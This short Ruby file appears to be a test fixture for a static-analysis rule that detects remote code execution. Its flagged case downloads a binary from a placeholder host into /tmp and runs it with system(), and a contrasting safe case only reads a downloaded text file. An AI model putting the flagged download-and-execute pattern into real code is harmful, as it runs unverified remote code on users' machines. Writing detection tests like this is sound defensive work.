require "open-uri"

# ruleid: remote-code-other-languages
IO.copy_stream(URI.open("https://files.sample.net/tool"), "/tmp/tool")
system("/tmp/tool --now")

# ok: remote-code-other-languages
IO.copy_stream(URI.open("https://files.sample.net/list.txt"), "/tmp/list.txt")
puts File.read("/tmp/list.txt")
